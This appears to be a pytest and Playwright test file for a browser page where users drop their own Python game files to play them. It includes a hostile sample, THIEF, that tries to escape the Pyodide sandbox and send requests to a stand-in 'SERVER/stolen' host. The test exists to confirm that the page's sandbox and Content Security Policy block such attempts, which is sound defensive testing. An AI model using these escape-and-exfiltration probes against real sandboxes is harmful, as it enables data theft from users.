"""A game in a file of one's own, dropped onto the page: played, measured, shown where it is wrong, and sent nowhere."""

from __future__ import annotations

import random
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tafelrunde.author.scaffold import single_file
from tests.browser import access
from tests.site.conftest import Files, Loner

EXAMPLES = Path(__file__).parents[2] / "examples" / "games"
# As a file is dropped by a hand.
DROP = """([name, text]) => {
  const carried = new DataTransfer()
  carried.items.add(new File([text], name, { type: 'text/x-python' }))
  for (const kind of ['dragover', 'drop'])
    document.body.dispatchEvent(new DragEvent(kind, { dataTransfer: carried, bubbles: true, cancelable: true }))
}"""
# Everything that code of anybody's might reach for. What it gets hold of, it tells in its name.
THIEF = """
got = []
for module, name in (("js", "fetch"), ("js", "indexedDB"), ("pyodide_js", "loadPackage"), ("pyodide.code", "run_js"),
                     ("pyodide.http", "pyfetch"), ("_pyodide_core", "JsProxy")):
    try:
        getattr(__import__(module, fromlist=[name]), name)
    except Exception:
        continue
    got.append(module)
try:
    import urllib.request
    urllib.request.urlopen("SERVER/stolen")
    got.append("urllib")
except Exception:
    pass
# What was only hidden, and not taken away.
import sys
for module in ("js", "pyodide_js"):
    sys.modules.pop(module, None)
    try:
        __import__(module)
        got.append("hidden " + module)
    except Exception:
        pass
# The objects of the browser that the table itself holds, and what they lead to.
import gc
def attempt(act):
    try:
        act()
        return True
    except Exception:
        return False
def found():
    for thing in gc.get_objects():
        if type(thing).__name__.startswith("Js"):
            yield thing
            for path in (("_api", "config", "jsglobals"), ("config", "jsglobals"), ("jsglobals",)):
                try:
                    for name in path:
                        thing = getattr(thing, name)
                    yield thing
                except Exception:
                    pass
def misuse(thing):
    thing.base = "SERVER/stolen/"
    thing.stop()
    thing.prepare()
for thing in list(found()):
    if attempt(lambda: getattr(thing.constructor, "constructor")("return fetch('SERVER/stolen')")()):
        got.append("constructor")
    for timer in ("setTimeout", "setInterval"):
        if attempt(lambda: getattr(thing, timer)("import('SERVER/stolen/" + timer + ".js')", 1000)):
            got.append(timer)
    if attempt(lambda: thing.channel.constructor.new("stolen")):
        got.append("channel")
    if attempt(lambda: misuse(thing)):
        got.append("thinkers")
"""


def drop(loner: Loner, name: str, text: str) -> None:
    loner.page.evaluate(DROP, [name, text])


def await_state(loner: Loner, state: str) -> None:
    expect(loner.page.locator(f"main[data-page=try][data-state={state}]")).to_be_visible()


def open_page(loner: Loner) -> None:
    loner.open("/try")
    expect(loner.page.get_by_role("heading", name="Try a game of your own")).to_be_visible()


@pytest.mark.parametrize("name", ["vierfurten", "lampionmarkt", "kraeuterstube", "honigtal"])
def test_a_dropped_file_is_played_to_its_end(loner: Loner, name: str) -> None:
    open_page(loner)
    drop(loner, f"{name}.py", (EXAMPLES / f"{name}.py").read_text(encoding="utf-8"))
    await_state(loner, "game")
    loner.page.locator("[data-play-bots]").click()
    assert loner.play(random.Random(name)) > 0
    expect(loner.page.get_by_role("link", name="Replay")).to_be_visible()


def test_the_example_is_played_and_goes_on_after_a_reload(loner: Loner) -> None:
    open_page(loner)
    loner.page.get_by_role("button", name="Begin with an example").click()
    await_state(loner, "game")
    loner.page.locator("[data-play-here]").click()
    loner.table.wait_for()
    loner.act(random.Random(1))
    before = loner.state()["number"]
    loner.page.reload()
    assert loner.await_turn()
    assert loner.state()["number"] == before
    # Its rules are a page like those of other games.
    loner.open("/try")
    loner.page.locator("[data-run]").click()
    await_state(loner, "game")
    loner.page.get_by_role("link", name="Rules").click()
    expect(loner.page.locator("main")).to_contain_text("You take one, two or three stones")


def test_what_is_wrong_is_shown_by_its_line(loner: Loner) -> None:
    open_page(loner)
    rules = single_file()
    drop(loner, "bad.py", rules.replace("reasons = (", "reasons = = ("))
    await_state(loner, "fault")
    fault = loner.page.locator("[data-fault]")
    line = 1 + rules[: rules.index("reasons = (")].count("\n")
    expect(fault).to_have_attribute("data-fault", str(line))
    expect(fault).to_contain_text(f"Line {line}: SyntaxError: invalid syntax")
    # The line is selected, to be written anew.
    chosen = "area => area.value.slice(area.selectionStart, area.selectionEnd)"
    assert "reasons = = (" in loner.page.locator("textarea").evaluate(chosen)
    loner.page.locator("textarea").fill("GAME = 1")
    loner.page.keyboard.press("Control+Enter")
    expect(fault).to_contain_text("its GAME is a int")
    access.check(loner)


def test_what_breaks_in_a_match_is_shown_at_the_table(loner: Loner) -> None:
    open_page(loner)
    # Random matches of the page itself do not come so far: at a table for two it breaks with the first stone.
    rules = single_file().replace("seats=range(2, 4)", "seats=range(2, 4), options={'brittle': False}")
    rules = rules.replace("self.heaps[heap] -= count\n", "self.heaps[heap] -= count // (not self.options.brittle)\n")
    line = 1 + rules[: rules.index("count // ")].count("\n")
    drop(loner, "brittle.py", rules)
    await_state(loner, "game")
    loner.page.get_by_role("link", name="Lay the table yourself").click()
    expect(loner.page.locator("form")).to_be_visible()
    loner.unfold()
    loner.page.get_by_role("switch", name="Brittle").click()
    loner.page.locator("form button[type=submit]").click()
    loner.table.wait_for()
    box = loner.page.locator("aside[data-fault]")
    loner.page.locator("[data-choice], [data-pick]").first.click()
    if not box.is_visible() and loner.page.locator("[data-choice]").count():
        loner.page.locator("[data-choice]").first.click()
    expect(box).to_have_attribute("data-fault", str(line))
    box.get_by_role("link").click()
    await_state(loner, "game")


def test_the_laboratory_measures_in_the_browser(loner: Loner) -> None:
    open_page(loner)
    drop(loner, "nim.py", single_file())
    await_state(loner, "game")
    # Whoever stops and begins anew within one bout gets one measuring, and not two in one.
    loner.page.locator("[data-measure]").click()
    loner.page.locator("[data-stop]").click()
    loner.page.locator("[data-measure]").click()
    expect(loner.page.locator("[data-lab=done]")).to_be_visible()
    expect(loner.page.locator("[data-lab]")).to_contain_text("among 40 matches")
    expect(loner.page.locator("[data-lab]")).to_contain_text("Thinking pays")
    access.check(loner)


def test_a_match_is_studied_where_it_was_played(loner: Loner) -> None:
    open_page(loner)
    drop(loner, "nim.py", single_file())
    await_state(loner, "game")
    loner.page.locator("[data-play-bots]").click()
    assert loner.play(random.Random(3)) > 0
    # Nobody's record counts it.
    assert loner.page.evaluate("localStorage.getItem('tafelrunde.record')") is None
    last = "JSON.parse(localStorage.getItem('tafelrunde.tables'))[0]"
    loner.open(f"/study/{loner.page.evaluate(last)['table']}/1")
    expect(loner.page.locator("[data-study]")).to_be_visible()
    loner.page.reload()
    expect(loner.page.locator("[data-study]")).to_be_visible()
    loner.page.get_by_role("button", name="Judge").click()
    expect(loner.page.locator("[data-thought] li").first).to_be_visible()
    loner.page.get_by_role("button", name="Play on from here").click()
    loner.table.wait_for()
    assert loner.page.evaluate(last)["trial"]


def test_the_page_brings_its_own_policy(loner: Loner) -> None:
    loner.open("/try")
    loner.page.evaluate("void fetch('http://127.0.0.2:9/stolen').catch(() => {})")
    refused = "Refused to connect because it violates the document's Content Security Policy"
    loner.until(lambda: any(refused in each for each in loner.wrong), lambda: f"it was let through: {loner.wrong}")
    loner.wrong.clear()


def test_nothing_of_a_file_gets_out(loner: Loner, files: Files) -> None:
    open_page(loner)
    loner.page.get_by_role("button", name="Begin with an example").click()
    await_state(loner, "game")
    asked = list(files.sent.elements())
    sent: list[str] = []
    loner.context.on("request", lambda request: sent.append(request.method + " " + (request.post_data or "")))
    thief = THIEF.replace("SERVER", files.address) + single_file().replace(
        'name="Pebbles"', 'name="Pebbles " + "".join(got)'
    )
    drop(loner, "thief.py", thief)
    await_state(loner, "game")
    expect(loner.page.locator("[data-tried] h2")).to_have_text("Pebbles ")
    loner.page.locator("[data-play-bots]").click()
    assert loner.play(random.Random(2)) > 0
    assert not any("stolen" in each for each in files.asked)
    # Files of the app came, and nothing went.
    assert all(each == "GET " for each in sent), sent
    assert sum(each.endswith(".bin") for each in files.sent.elements()) == sum(each.endswith(".bin") for each in asked)


def test_a_file_that_never_ends_is_ended(loner: Loner) -> None:
    loner.context.add_init_script(
        "{ const real = setTimeout; window.setTimeout = (do_, wait) => real(do_, wait / 20) }"
    )
    open_page(loner)
    drop(loner, "endless.py", "while True:\n    pass\n")
    await_state(loner, "fault")
    expect(loner.page.locator("[data-fault]")).to_contain_text("it does not come to an end")
    drop(loner, "picture.png", "")
    expect(loner.page.get_by_role("alert").first).to_contain_text("picture.png is no Python file")
